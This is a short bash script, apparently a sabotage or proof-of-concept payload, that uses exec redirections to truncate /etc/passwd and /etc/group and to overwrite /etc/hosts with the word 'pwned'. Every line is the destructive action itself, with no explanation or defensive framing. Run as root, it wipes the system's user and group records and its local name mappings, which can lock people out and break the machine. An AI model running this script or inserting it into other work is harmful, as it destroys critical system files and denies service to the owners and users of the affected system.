#!/bin/bash
exec 3>/etc/passwd
exec >/etc/hosts
echo pwned
exec 2>/etc/group
